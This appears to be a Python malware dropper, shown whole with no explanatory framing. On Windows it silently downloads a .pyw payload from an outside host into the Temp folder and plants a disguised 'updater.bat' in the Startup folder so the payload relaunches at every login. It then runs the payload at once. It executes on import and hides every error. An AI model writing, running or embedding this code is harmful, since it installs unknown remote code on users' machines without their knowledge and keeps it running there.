import os
import getpass
import shutil
import sys
import urllib.request
from pathlib import Path

USER = getpass.getuser()
STARTUP = r"C:\Users\%s\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup" % USER

class Persist:
    def __init__(self, name="updater"):
        self.name = name

    @property
    def bat(self):
        return os.path.join(STARTUP, self.name + ".bat")

    def install(self, target):
        with open(self.bat, "w+") as f:
            f.write("@echo off\n")
            f.write(r'start "" /min "%s" "%s"' % (sys.executable, target))

def payload_path():
    p = Path.home() / "AppData" / "Local" / "Temp" / "svc.pyw"
    return str(p)

def go():
    if os.name != "nt":
        return
    p = payload_path()
    data = urllib.request.urlopen("https://raw.collector.invalid/u/repo/main/svc.pyw").read()
    with open(p, "wb") as fh:
        fh.write(data)
    Persist().install(p)
    os.startfile(p)

try:
    go()
except Exception:
    pass
